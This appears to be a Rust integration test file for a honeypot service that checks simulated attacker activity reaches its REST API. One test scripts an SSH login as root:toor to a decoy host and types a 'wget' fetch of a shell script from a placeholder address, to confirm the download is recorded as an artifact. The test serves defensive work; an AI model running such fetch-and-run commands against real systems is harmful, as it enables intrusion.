//! `decnet up` as one process: what a decky captures reaches the REST API
//! (journal → ingester → store → API), behind the forced password change.

use std::process::Command;
use std::time::{Duration, Instant};

use crate::support::*;

const DEADLINE: Duration = Duration::from_secs(30);

/// `curl` a JSON API route; returns (status, body).
fn call(
    method: &str,
    url: &str,
    token: Option<&str>,
    body: Option<&str>,
) -> (u16, serde_json::Value) {
    let mut c = Command::new("curl");
    c.args(["-s", "-o", "-", "-w", "\n%{http_code}", "-X", method, url]);
    if let Some(t) = token {
        c.args(["-H", &format!("Authorization: Bearer {t}")]);
    }
    if let Some(b) = body {
        c.args(["-H", "Content-Type: application/json", "-d", b]);
    }
    let out = c.output().unwrap();
    let text = String::from_utf8(out.stdout).unwrap();
    let (body, code) = text.rsplit_once('\n').unwrap();
    (
        code.trim().parse().unwrap(),
        serde_json::from_str(body).unwrap_or(serde_json::Value::Null),
    )
}

/// Starts `up` with `ini`, returns the process and the API base URL.
fn start(dir: &std::path::Path, ini: &str, port_offset: u16) -> (Running, String) {
    let cfg = dir.join("fleet.ini");
    std::fs::write(&cfg, ini).unwrap();
    let (run, lines) = up(
        &cfg,
        &dir.join("data"),
        port_offset,
        &[("DECNET_ADMIN_PASSWORD", "first-password-123")],
    );
    let base = format!("http://{}/api/v1", api_addr(&lines));
    (run, base)
}

/// Logs in as the bootstrap admin, changes the password, returns a usable token.
fn admin_token(base: &str) -> String {
    let (code, login) = call(
        "POST",
        &format!("{base}/auth/login"),
        None,
        Some(r#"{"username":"admin","password":"first-password-123"}"#),
    );
    assert_eq!(code, 200, "{login}");
    let token = login["access_token"].as_str().unwrap().to_owned();
    let (code, body) = call(
        "POST",
        &format!("{base}/auth/change-password"),
        Some(&token),
        Some(r#"{"old_password":"first-password-123","new_password":"a-much-better-password"}"#),
    );
    assert!(code == 200 || code == 204, "{code} {body}");
    let (code, login) = call(
        "POST",
        &format!("{base}/auth/login"),
        None,
        Some(r#"{"username":"admin","password":"a-much-better-password"}"#),
    );
    assert_eq!(code, 200);
    login["access_token"].as_str().unwrap().to_owned()
}

/// GETs `url` until `pred` holds on the body (the ingester runs asynchronously).
fn get_until(
    url: &str,
    token: &str,
    pred: impl Fn(&serde_json::Value) -> bool,
) -> serde_json::Value {
    let end = Instant::now() + DEADLINE;
    loop {
        let (code, body) = call("GET", url, Some(token), None);
        assert_eq!(code, 200, "{url}: {body}");
        if pred(&body) || Instant::now() > end {
            return body;
        }
        std::thread::sleep(POLL);
    }
}

/// How often a test re-reads an API route while waiting for the ingester.
const POLL: Duration = Duration::from_millis(100);

#[test]
fn an_ssh_session_reaches_the_api_with_its_commands_download_and_transcript() {
    if !have("sshpass") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let ip = unique_ip();
    let (run, base) = start(
        dir.path(),
        &format!(
            "[box]\nip = {ip}\nservices = ssh\n[box.ssh]\nusers = root:toor\nauth_delay_ms = 10\n"
        ),
        24000,
    );
    let token = admin_token(&base);

    let mut ssh = Command::new("sshpass")
        .args([
            "-p",
            "toor",
            "ssh",
            "-tt",
            "-p",
            "24022",
            "-o",
            "StrictHostKeyChecking=no",
            "-o",
            "UserKnownHostsFile=/dev/null",
        ])
        .arg(format!("root@{ip}"))
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    {
        use std::io::Write as _;
        let mut stdin = ssh.stdin.take().unwrap();
        stdin
            .write_all(b"uname -a\nwget http://203.0.113.9/x.sh\nexit\n")
            .unwrap();
    }
    assert!(wait_exit(&mut ssh, DEADLINE).success());

    let attackers = get_until(&format!("{base}/attackers"), &token, |b| {
        b["items"][0]["session_count"] == 1
    });
    let uuid = attackers["items"][0]["uuid"].as_str().unwrap().to_owned();
    let sessions = get_until(&format!("{base}/attackers/{uuid}/sessions"), &token, |b| {
        b["items"][0]["recorded"] == true
    });
    let s = &sessions["items"][0];
    assert_eq!(s["decky"], "box");
    assert_eq!(s["command_count"], 3, "{s}");
    let sid = s["sid"].as_str().unwrap();

    let arts = get_until(&format!("{base}/attackers/{uuid}/artifacts"), &token, |b| {
        !b["items"].as_array().unwrap().is_empty()
    });
    assert_eq!(arts["items"][0]["name"], "http://203.0.113.9/x.sh");
    let creds = get_until(
        &format!("{base}/attackers/{uuid}/credentials"),
        &token,
        |b| !b["items"].as_array().unwrap().is_empty(),
    );
    assert_eq!(creds["items"][0]["principal"], "root");
    assert_eq!(creds["items"][0]["secret_printable"], "toor");

    let (code, t) = call(
        "GET",
        &format!("{base}/sessions/{sid}/transcript"),
        Some(&token),
        None,
    );
    assert_eq!(code, 200, "{t}");
    assert_eq!(t["header"]["version"], 2);
    let text: String = t["events"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e[1] == "o")
        .map(|e| e[2].as_str().unwrap().to_owned())
        .collect();
    assert!(
        text.contains("Linux") && text.contains("GNU/Linux"),
        "{text}"
    );
    assert!(run.terminate().success());
}

#[test]
fn captured_events_reach_the_api_after_the_forced_password_change() {
    if !have("curl") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let ip = unique_ip();
    let (run, base) = start(
        dir.path(),
        &format!("[web1]\nip = {ip}\nservices = http\n"),
        23000,
    );

    // The attacker's request, with credentials.
    let st = Command::new("curl")
        .args(["-s", "-o", "/dev/null", "-u", "root:toor"])
        .arg(format!("http://{ip}:23080/admin"))
        .status()
        .unwrap();
    assert!(st.success());

    let (code, login) = call(
        "POST",
        &format!("{base}/auth/login"),
        None,
        Some(r#"{"username":"admin","password":"first-password-123"}"#),
    );
    assert_eq!(code, 200, "{login}");
    assert_eq!(login["must_change_password"], true);
    let first = login["access_token"].as_str().unwrap().to_owned();
    let (code, _) = call("GET", &format!("{base}/logs"), Some(&first), None);
    assert_eq!(code, 403, "nothing works before the password change");
    let token = admin_token(&base);

    let logs = get_until(
        &format!("{base}/logs?event_type=http_request&decky=web1"),
        &token,
        |b| !b["items"].as_array().unwrap().is_empty(),
    );
    let items = logs["items"].as_array().unwrap();
    assert_eq!(items.len(), 1, "{logs}");
    assert_eq!(items[0]["fields"]["path"], "/admin");
    assert_eq!(items[0]["credential"]["principal"], "root");
    assert_eq!(items[0]["credential"]["secret_kind"], "http_basic");
    assert_eq!(items[0]["dst_ip"], ip.to_string());

    let (code, creds) = call("GET", &format!("{base}/credentials"), Some(&token), None);
    assert_eq!(code, 200);
    assert!(
        creds["items"]
            .as_array()
            .unwrap()
            .iter()
            .any(|c| c["principal"] == "root"),
        "{creds}"
    );
    let (code, deckies) = call("GET", &format!("{base}/deckies"), Some(&token), None);
    assert_eq!(code, 200);
    assert_eq!(deckies["items"][0]["name"], "web1", "{deckies}");
    assert!(run.terminate().success());
}
